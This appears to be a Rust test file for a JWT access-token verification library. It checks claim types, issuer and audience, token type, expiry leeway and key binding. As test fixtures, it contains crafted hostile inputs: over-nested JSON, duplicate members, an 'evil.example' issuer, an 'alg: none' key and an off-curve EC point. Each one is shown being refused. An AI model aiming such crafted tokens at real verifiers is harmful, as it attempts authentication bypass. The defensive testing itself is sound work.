    assert_eq!(check(&huge_h, &keys).unwrap_err(), Error::TooDeep);
    let huge_p = sign_raw(
        server,
        header(server).to_string().as_bytes(),
        payload_with(2500).as_bytes(),
    );
    assert!(huge_p.len() <= Limits::default().max_token_len);
    assert_eq!(check(&huge_p, &keys).unwrap_err(), Error::TooDeep);

    // A custom, smaller cap applies to the payload too.
    let shallow = validation().with_limits(Limits {
        max_depth: 2,
        ..Limits::default()
    });
    assert!(decode_at(
        &sign_raw(
            server,
            header(server).to_string().as_bytes(),
            payload_with(1).as_bytes()
        ),
        &keys,
        &shallow,
        NOW
    )
    .is_ok());
    assert_eq!(
        decode_at(
            &sign_raw(
                server,
                header(server).to_string().as_bytes(),
                payload_with(2).as_bytes()
            ),
            &keys,
            &shallow,
            NOW
        )
        .unwrap_err(),
        Error::TooDeep
    );
}

// ------------------------------------------------------ claim types

fn with_claim(name: &str, value: Value) -> Value {
    let mut c = claims();
    c[name] = value;
    c
}

fn without_claim(name: &str) -> Value {
    let mut c = claims();
    c.as_object_mut().unwrap().remove(name);
    c
}

fn check_claims(c: &Value, v: &Validation, now: i64) -> Result<Value, Error> {
    let server = es_server();
    let token = encode(server, Some("at+jwt"), c).unwrap();
    decode_at(&token, &keys_of(server), v, now)
}

#[test]
fn claims_of_the_wrong_type_are_refused() {
    let cases = [
        ("exp", json!("1700000900"), "exp"),
        ("exp", json!(null), "exp"),
        ("exp", json!(true), "exp"),
        ("exp", json!([NOW + 900]), "exp"),
        ("exp", json!(1e300), "exp"),
        ("exp", json!(u64::MAX), "exp"),
        ("nbf", json!(false), "nbf"),
        ("nbf", json!("0"), "nbf"),
        ("iat", json!({"t": NOW}), "iat"),
        ("aud", json!(42), "aud"),
        ("aud", json!([AUD, 42]), "aud"),
        ("aud", json!({"aud": AUD}), "aud"),
        ("aud", json!(null), "aud"),
        ("iss", json!([ISS]), "iss"),
        ("iss", json!(1), "iss"),
        ("iss", json!(null), "iss"),
        ("sub", json!(5), "sub"),
        ("jti", json!({}), "jti"),
    ];
    let v = validation();
    for (name, value, want) in cases {
        assert_eq!(
            check_claims(&with_claim(name, value.clone()), &v, NOW).unwrap_err(),
            Error::InvalidClaim(want),
            "{name}: {value}"
        );
    }
    // Fractional NumericDates are allowed and truncated toward −∞: an exp of
    // NOW + 0.5 has expired at NOW (it would not have if rounded up).
    let mut frac = without_claim("iat");
    frac["exp"] = json!(NOW as f64 + 0.5);
    let strict = validation().with_leeway(0);
    assert!(check_claims(&frac, &strict, NOW - 1).is_ok());
    assert_eq!(
        check_claims(&frac, &strict, NOW).unwrap_err(),
        Error::Expired
    );
}

#[test]
fn issuer_and_audience_are_required_and_exact() {
    let v = validation();
    assert_eq!(
        check_claims(&without_claim("aud"), &v, NOW).unwrap_err(),
        Error::MissingClaim("aud")
    );
    assert_eq!(
        check_claims(&without_claim("iss"), &v, NOW).unwrap_err(),
        Error::MissingClaim("iss")
    );
    assert_eq!(
        check_claims(&without_claim("exp"), &v, NOW).unwrap_err(),
        Error::MissingClaim("exp")
    );
    for iss in [
        "https://evil.example",
        "https://AUTH.example",
        "https://auth.example/",
        "",
    ] {
        assert_eq!(
            check_claims(&with_claim("iss", json!(iss)), &v, NOW).unwrap_err(),
            Error::InvalidIssuer,
            "{iss}"
        );
    }
    for aud in [
        json!("other"),
        json!("API"),
        json!(""),
        json!([]),
        json!(["x", "y"]),
    ] {
        assert_eq!(
            check_claims(&with_claim("aud", aud.clone()), &v, NOW).unwrap_err(),
            Error::InvalidAudience,
            "{aud}"
        );
    }
    for aud in [
        json!(AUD),
        json!([AUD]),
        json!(["other", AUD]),
        json!([AUD, "other"]),
    ] {
        let data = check_claims(&with_claim("aud", aud.clone()), &v, NOW).unwrap();
        assert_eq!(data["aud"], aud);
    }
    // Extra accepted issuers and audiences.
    let v2 = validation()
        .also_issuer("https://other.example")
        .also_audience("second");
    let c = with_claim("iss", json!("https://other.example"));
    assert!(check_claims(&c, &v2, NOW).is_ok());
    assert!(check_claims(&with_claim("aud", json!("second")), &v2, NOW).is_ok());
}

#[test]
fn token_type_is_enforced() {
    let server = es_server();
    let keys = keys_of(server);
    let v = validation();
    let typed = |typ: Option<&str>| encode(server, typ, &claims()).unwrap();
    for typ in [
        Some("JWT"),
        Some("jwt"),
        Some("refresh+jwt"),
        Some("id_token+jwt"),
        Some("at+jwt "),
        Some("xat+jwt"),
        Some("application/jwt"),
        Some(""),
        None,
    ] {
        assert_eq!(
            decode_at(&typed(typ), &keys, &v, NOW).unwrap_err(),
            Error::InvalidType,
            "{typ:?}"
        );
    }
    for typ in [
        "at+jwt",
        "AT+JWT",
        "application/at+jwt",
        "Application/At+Jwt",
    ] {
        assert!(
            decode_at(&typed(Some(typ)), &keys, &v, NOW).is_ok(),
            "{typ}"
        );
    }
    // A typ of the wrong JSON type is malformed.
    let hdr = json!({"alg": "ES256", "typ": 1, "kid": server.kid()});
    assert_eq!(
        check(&sign_json(server, &hdr, &claims()), &keys).unwrap_err(),
        Error::Malformed("header member has the wrong type")
    );
    // A validation asking for another typ, or for none.
    let jwt = validation().with_typ(Some("JWT"));
    assert!(decode_at(&typed(Some("JWT")), &keys, &jwt, NOW).is_ok());
    assert_eq!(
        decode_at(&typed(Some("at+jwt")), &keys, &jwt, NOW).unwrap_err(),
        Error::InvalidType
    );
    let any = validation().with_typ(None);
    assert!(decode_at(&typed(None), &keys, &any, NOW).is_ok());
}

// ------------------------------------------------------------- time

#[test]
fn expiry_edges_respect_the_leeway() {
    let exp = NOW + 900;
    let c = with_claim("exp", json!(exp));
    let v = validation();
    assert_eq!(v.leeway(), 30);
    // Rejected iff now >= exp + leeway.
    assert!(check_claims(&c, &v, exp).is_ok());
    assert!(check_claims(&c, &v, exp + 29).is_ok());
    assert_eq!(check_claims(&c, &v, exp + 30).unwrap_err(), Error::Expired);
    assert_eq!(check_claims(&c, &v, exp + 31).unwrap_err(), Error::Expired);
    // Without leeway, exp itself is already too late.
    let strict = validation().with_leeway(0);
    assert!(check_claims(&c, &strict, exp - 1).is_ok());
    assert_eq!(check_claims(&c, &strict, exp).unwrap_err(), Error::Expired);
    // Optional exp, and an exp far in the past or at the extremes.
    let opt = validation().require_exp(false);
    assert!(check_claims(&without_claim("exp"), &opt, NOW).is_ok());
    assert_eq!(
        check_claims(&with_claim("exp", json!(i64::MIN)), &v, NOW).unwrap_err(),
        Error::Expired
    );
    assert!(check_claims(&with_claim("exp", json!(i64::MAX)), &v, NOW).is_ok());
}

#[test]
fn not_before_edges_respect_the_leeway() {
    let nbf = NOW + 100;
    let c = with_claim("nbf", json!(nbf));
    let v = validation();
    // Rejected iff now + leeway < nbf.
    assert!(check_claims(&c, &v, nbf - 30).is_ok());
    assert_eq!(
        check_claims(&c, &v, nbf - 31).unwrap_err(),
        Error::NotYetValid
    );
    assert!(check_claims(&c, &v, nbf).is_ok());
    let strict = validation().with_leeway(0);
    assert!(check_claims(&c, &strict, nbf).is_ok());
    assert_eq!(
        check_claims(&c, &strict, nbf - 1).unwrap_err(),
        Error::NotYetValid
    );
}

#[test]
fn issued_in_the_future_and_max_age() {
    let v = validation();
    // iat beyond now + leeway.
    let c = with_claim("iat", json!(NOW + 30));
    assert!(check_claims(&c, &v, NOW).is_ok());
    let c = with_claim("iat", json!(NOW + 31));
    assert_eq!(
        check_claims(&c, &v, NOW).unwrap_err(),
        Error::IssuedInFuture
    );

    // max_age: refused once now - iat > max_age + leeway.
    let aged = validation().with_max_age(3600);
    let mut c = with_claim("iat", json!(NOW));
    c["exp"] = json!(NOW + 100_000);
    assert!(check_claims(&c, &aged, NOW + 3630).is_ok());
    assert_eq!(
        check_claims(&c, &aged, NOW + 3631).unwrap_err(),
        Error::TooOld
    );
    let aged0 = validation().with_max_age(3600).with_leeway(0);
    assert!(check_claims(&c, &aged0, NOW + 3600).is_ok());
    assert_eq!(
        check_claims(&c, &aged0, NOW + 3601).unwrap_err(),
        Error::TooOld
    );
    // max_age requires iat.
    assert_eq!(
        check_claims(&without_claim("iat"), &aged, NOW).unwrap_err(),
        Error::MissingClaim("iat")
    );
}

// ------------------------------------------------------ jwk parsing

#[test]
fn hostile_jwks_are_refused_without_panicking() {
    let good = es_server().verifying_key().to_jwk().unwrap().to_json();
    assert!(Jwk::from_json(&good).is_ok());
    let dup = good.replacen('{', r#"{"kty":"EC","#, 1);
    assert_eq!(Jwk::from_json(&dup).unwrap_err(), Error::DuplicateMember);
    let deep = format!(r#"{{"keys":[{good}],"x":{}}}"#, nested(40));
    assert_eq!(Jwks::from_json(&deep).unwrap_err(), Error::TooDeep);
    let dup_set = format!(r#"{{"keys":[{good}],"keys":[]}}"#);
    assert_eq!(
        Jwks::from_json(&dup_set).unwrap_err(),
        Error::DuplicateMember
    );
    // A public JWK whose point is not on the curve.
    let mut off = es_server().verifying_key().to_jwk().unwrap();
    let mut y = b64::decode(off.y.as_deref().unwrap().as_bytes(), "y").unwrap();
    y[31] ^= 1;
    off.y = Some(b64::encode(&y));
    assert!(matches!(
        VerifyingKey::from_jwk(&off, None).unwrap_err(),
        Error::InvalidKey(_)
    ));
    // A JWK whose alg disagrees with its kty.
    let mut wrong = es_server().verifying_key().to_jwk().unwrap();
    wrong.alg = Some("RS256".into());
    assert!(matches!(
        VerifyingKey::from_jwk(&wrong, None).unwrap_err(),
        Error::InvalidKey(_)
    ));
    wrong.alg = Some("none".into());
    assert_eq!(
        VerifyingKey::from_jwk(&wrong, None).unwrap_err(),
        Error::UnsupportedAlgorithm
    );
}

// ---------------------------------------------------------------- the per-key cached header

/// The cached access-token header is the key's own (alg, kid), follows
/// `with_kid` on both key types, and never lets a token reach another key.
#[test]
fn cached_header_is_bound_to_its_key() {
    let clock = ManualClock::new(NOW);
    let claims = json!({"iss": ISS, "aud": AUD, "exp": NOW + 900});
    let hs = SigningKey::from_hmac_secret(Algorithm::HS256, &[1u8; 32])
        .unwrap()
        .with_kid("k");
    let token = encode(&hs, Some(ACCESS_TOKEN_TYP), &claims).unwrap();
    let header: Value = serde_json::from_slice(
        &b64::decode(token.split('.').next().unwrap().as_bytes(), "h").unwrap(),
    )
    .unwrap();
    assert_eq!(header, json!({"alg": "HS256", "typ": "at+jwt", "kid": "k"}));

    // Renamed after the fact: the header follows.
    let renamed = SigningKey::from_hmac_secret(Algorithm::HS256, &[1u8; 32])
        .unwrap()
        .with_kid("k")
        .with_kid("k2");
    let t2 = encode(&renamed, Some(ACCESS_TOKEN_TYP), &claims).unwrap();
    let h2 = UnverifiedToken::parse(&t2, &Limits::default()).unwrap();
    assert_eq!(h2.header().kid(), Some("k2"));

    // A verifying key renamed: the old token names an unknown key.
    let vk: VerifyingKey = hs.verifying_key().clone().with_kid("other");
    let ks: KeySet = [vk].into_iter().collect();
    assert_eq!(
        decode::<Value>(&token, &ks, &validation(), &clock).map(|_| ()),
        Err(Error::UnknownKey)
    );
    // A verifying key renamed to the token's kid: it verifies again.
    let vk = hs.verifying_key().clone().with_kid("x").with_kid("k");
    let ks: KeySet = [vk].into_iter().collect();
    assert!(decode::<Value>(&token, &ks, &validation(), &clock).is_ok());

    // Same kid, other secret: the header is recognised, the signature is not.
    let other = SigningKey::from_hmac_secret(Algorithm::HS256, &[2u8; 32])
        .unwrap()
        .with_kid("k");
    let ks: KeySet = [other.verifying_key().clone()].into_iter().collect();
    assert_eq!(
        decode::<Value>(&token, &ks, &validation(), &clock).map(|_| ()),
        Err(Error::InvalidSignature)
    );
    // Same kid, other algorithm: the key's algorithm decides.
    let es = SigningKey::generate(Algorithm::ES256)
        .unwrap()
        .with_kid("k");
    let ks: KeySet = [es.verifying_key().clone()].into_iter().collect();
    assert_eq!(
        decode::<Value>(&token, &ks, &validation(), &clock).map(|_| ()),
        Err(Error::AlgorithmMismatch)
    );
    // Several keys: each token reaches its own.
    let ks: KeySet = [
        es.verifying_key().clone().with_kid("e"),
        hs.verifying_key().clone(),
        renamed.verifying_key().clone(),
    ]
    .into_iter()
    .collect();
    for t in [&token, &t2] {
        let data = decode::<Value>(t, &ks, &validation(), &clock).unwrap();
        assert_eq!(
            &data.header,
            UnverifiedToken::parse(t, &Limits::default())
                .unwrap()
                .header()
        );
    }
}
